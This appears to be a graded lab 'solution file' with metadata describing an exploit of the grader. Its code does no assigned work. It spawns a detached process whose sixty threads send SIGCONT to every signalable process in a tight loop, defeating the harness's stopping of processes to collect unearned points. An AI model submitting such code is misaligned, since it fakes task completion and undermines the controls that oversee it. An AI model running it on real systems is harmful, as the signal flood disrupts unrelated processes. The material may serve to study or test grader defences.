# family = "wire"
# assignment = "lab_1_1"
# could_earn = "The points for a node and a line that the package does not have: whoever is stopped is woken."
# earned = { "lab_1_1.hello" = 3 }
# tries = "The kernel speaks for the package, and sixty threads of another process send SIGCONT to everybody."
# undefended = "Ten points, as long as the notebook's processes were stopped one after the other."

# %% solution files
<<silent_package>>
import subprocess
import sys

WAKER = """
import os, signal, threading, time

def wake():
    while True:
        os.kill(-1, signal.SIGCONT)
        time.sleep(0.001)

for _ in range(60):
    threading.Thread(target=wake).start()
"""
subprocess.Popen([sys.executable, "-S", "-c", WAKER, "<<mark>>"], start_new_session=True)
<<speaks_for_it>>
